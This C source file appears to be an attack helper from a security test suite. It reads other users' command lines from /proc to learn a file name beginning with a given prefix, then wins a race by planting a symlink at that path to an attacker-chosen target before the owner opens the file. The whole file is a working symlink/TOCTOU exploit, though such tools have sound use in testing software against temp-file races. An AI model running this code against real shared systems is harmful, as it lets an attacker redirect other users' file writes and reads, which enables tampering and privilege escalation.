/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* argv PREFIX TARGET: reads a name that begins with PREFIX off other users' command lines, and
 * is there with a link to TARGET before its owner opens it. */
#include <dirent.h>
#include <fcntl.h>

#include "attack.h"

/* The first word of the command line of process pid that holds prefix, or NULL. */
static const char *find_name(const char *pid, const char *prefix)
{
	static char line[8192];
	char path[PATH_MAX];

	snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return NULL;
	ssize_t n = read(fd, line, sizeof line - 1);

	close(fd);
	if (n <= 0)
		return NULL;
	for (ssize_t i = 0; i < n; i++)
		if (line[i] == '\0')
			line[i] = ' ';
	line[n] = '\0';
	char *name = strstr(line, prefix);

	if (name != NULL)
		name[strcspn(name, " ;\n")] = '\0';
	return name;
}

static bool search(const char *prefix, char *found, size_t size)
{
	DIR *proc = opendir("/proc");
	const char *name = NULL;

	if (proc == NULL)
		die("/proc");
	for (struct dirent *d = readdir(proc); d != NULL && name == NULL;
	     d = readdir(proc))
		/* Our own command line holds the prefix too. */
		if (strspn(d->d_name, "0123456789") == strlen(d->d_name) &&
		    atol(d->d_name) != getpid() && atol(d->d_name) != getppid())
			name = find_name(d->d_name, prefix);
	closedir(proc);
	if (name != NULL)
		snprintf(found, size, "%s", name);
	return name != NULL;
}

int main(int argc, char **argv)
{
	char name[PATH_MAX] = "";

	if (argc != 3)
		return 2;
	lie_in_wait();
	while (wait_for(-1, 1))
		if (search(argv[1], name, sizeof name))
			break;
	if (*name != '\0' && symlink(argv[2], name) == 0) {
		while (wait_for(-1, -1))
			;
		unlink(name);
	}
	return 0;
}
